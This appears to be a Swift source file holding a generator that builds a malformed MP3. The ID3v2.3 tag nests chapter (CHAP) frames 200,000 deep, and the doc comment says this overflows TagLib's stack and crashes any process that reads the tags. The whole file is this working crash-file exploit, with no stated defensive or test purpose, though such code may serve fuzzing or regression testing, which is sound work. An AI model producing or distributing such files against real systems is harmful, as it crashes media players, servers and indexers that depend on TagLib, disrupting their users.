/// An MP3 whose ID3v2.3 tag nests chapter frames (`CHAP`) 200,000 deep, which overflows
/// TagLib's stack: a file that crashes whatever reads its tags with TagLib in its own process.
public enum NestedChapters {
    /// `mp3` (an MP3 file's bytes) with its own ID3 tag, if any, replaced by the nested one.
    public static func mp3(from mp3: [UInt8], depth: Int = 200_000) -> [UInt8] {
        // After the file's own ID3 tag, if any: the MPEG frames.
        let start = mp3.starts(with: Array("ID3".utf8))
            ? 10 + (Int(mp3[6]) << 21 | Int(mp3[7]) << 14 | Int(mp3[8]) << 7 | Int(mp3[9])) : 0
        let bigEndian = { (value: Int) in (0..<4).map { UInt8(truncatingIfNeeded: value >> (24 - 8 * $0)) } }
        let title = Array("TIT2".utf8) + bigEndian(6) + [0, 0, 0] + Array("title".utf8)
        let perLevel = 10 + 2 + 16
        var body = [UInt8]()
        body.reserveCapacity(depth * perLevel + title.count)
        for level in stride(from: depth, to: 0, by: -1) {
            body += Array("CHAP".utf8) + bigEndian(2 + 16 + (level - 1) * perLevel + title.count) + [0, 0] + [0x63, 0] + [UInt8](repeating: 0, count: 16)
        }
        body += title
        let synchsafe = (0..<4).map { UInt8((body.count >> (21 - 7 * $0)) & 0x7F) }
        return Array("ID3".utf8) + [3, 0, 0] + synchsafe + body + mp3[start...]
    }
}
